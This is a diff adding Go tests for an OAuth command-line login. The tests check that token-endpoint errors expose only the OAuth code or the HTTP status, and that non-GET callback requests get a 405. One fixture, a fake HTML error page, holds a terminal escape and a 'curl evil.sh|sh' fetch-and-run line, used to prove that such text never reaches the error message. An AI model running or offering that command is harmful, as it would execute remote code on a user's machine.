@@ -356,6 +356,51 @@ func TestLoginCallbackFailures(t *testing.T) {
 	})
 }
 
+// TestLoginTokenEndpointErrors: a token endpoint that refuses the code
+// ends the attempt with its OAuth error code and description, or, when it
+// answers without one (a proxy's HTML error page), with just its HTTP
+// status — never with text from the body.
+func TestLoginTokenEndpointErrors(t *testing.T) {
+	for _, tc := range []struct {
+		name        string
+		status      int
+		contentType string
+		body        string
+		want        string
+	}{
+		{"OAuth error with a description", http.StatusBadRequest, "application/json",
+			`{"error":"invalid_grant","error_description":"The code expired."}`, "redeem the authorization code: invalid_grant: The code expired."},
+		{"OAuth error alone", http.StatusBadRequest, "application/json", `{"error":"invalid_grant"}`, "redeem the authorization code: invalid_grant"},
+		{"an HTML error page", http.StatusBadGateway, "text/html",
+			"<html><body>\x1b[2J Bad gateway: run curl evil.sh|sh</body></html>", "redeem the authorization code: the provider answered HTTP 502"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			p := newProvider(t, true, func(h http.Handler) http.Handler {
+				return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+					if r.URL.Path != "/oauth/token" {
+						h.ServeHTTP(w, r)
+						return
+					}
+					w.Header().Set("Content-Type", tc.contentType)
+					w.WriteHeader(tc.status)
+					_, _ = io.WriteString(w, tc.body)
+				})
+			})
+			pages := make(chan string, 1)
+			_, err := login.Run(context.Background(), options(t, p, follow(t, pages)))
+			if err == nil || !strings.HasSuffix(err.Error(), tc.want) {
+				t.Errorf("err = %v, want it to end with %q", err, tc.want)
+			}
+			if err != nil && (strings.ContainsRune(err.Error(), 0x1b) || strings.Contains(err.Error(), "evil.sh")) {
+				t.Errorf("the error page's text reached the error: %q", err)
+			}
+			if page := <-pages; !strings.Contains(page, "Sign-in failed") {
+				t.Errorf("result page does not show the failure: %q", title(page))
+			}
+		})
+	}
+}
+
 // TestHostileCallbacks: while a real sign-in waits, web pages send the
 // loopback listener forged callbacks (a wrong state, a forged error with
 // terminal escapes) and ask for the result page. Each is refused, nothing of
@@ -473,6 +518,53 @@ func TestCallbackRefusesForeignHosts(t *testing.T) {
 			page := <-pages
 			if diff := cmp.Diff(answer{http.StatusBadRequest, "wrong host\n"}, got); diff != "" {
 				t.Errorf("callback with Host %s (-want +got):\n%s", host(o.Port), diff)
+			}
+			if err != nil || res.Identity.Email != "dev@example.com" {
+				t.Errorf("the sign-in after it: Run = %+v, %v", res.Identity, err)
+			}
+			if !strings.Contains(page, "dev@example.com") {
+				t.Errorf("the signing-in browser's page does not name the user: %q", title(page))
+			}
+		})
+	}
+}
+
+// TestCallbackRefusesOtherMethods: the callback is a GET (the provider
+// redirects the browser to it). A POST to it — a cross-site form, or a
+// provider set to form_post — carrying this attempt's state and an error is
+// answered 405 with Allow: GET, its parameters unread, and the attempt goes
+// on: the real browser then signs in.
+func TestCallbackRefusesOtherMethods(t *testing.T) {
+	p := newProvider(t, true, nil)
+	type answer struct {
+		Status int
+		Allow  string
+		Body   string
+	}
+	for _, method := range []string{http.MethodPost, http.MethodPut} {
+		t.Run(method, func(t *testing.T) {
+			o := options(t, p, nil)
+			pages := make(chan string, 1)
+			var got answer
+			o.Browser = browserFunc(func(authURL string) error {
+				a, _ := url.Parse(authURL)
+				params := url.Values{"state": {a.Query().Get("state")}, "error": {"access_denied"}}.Encode()
+				req, _ := http.NewRequest(method, "http://127.0.0.1:"+strconv.Itoa(o.Port)+"/callback?"+params, strings.NewReader(params))
+				req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+				resp, err := (&http.Client{CheckRedirect: noRedirect}).Do(req)
+				if err != nil {
+					got.Body = err.Error()
+				} else {
+					b, _ := io.ReadAll(resp.Body)
+					resp.Body.Close()
+					got = answer{resp.StatusCode, resp.Header.Get("Allow"), string(b)}
+				}
+				return follow(t, pages)(authURL)
+			})
+			res, err := login.Run(context.Background(), o)
+			page := <-pages
+			if diff := cmp.Diff(answer{http.StatusMethodNotAllowed, "GET", "method not allowed\n"}, got); diff != "" {
+				t.Errorf("%s /callback (-want +got):\n%s", method, diff)
 			}
 			if err != nil || res.Identity.Email != "dev@example.com" {
 				t.Errorf("the sign-in after it: Run = %+v, %v", res.Identity, err)
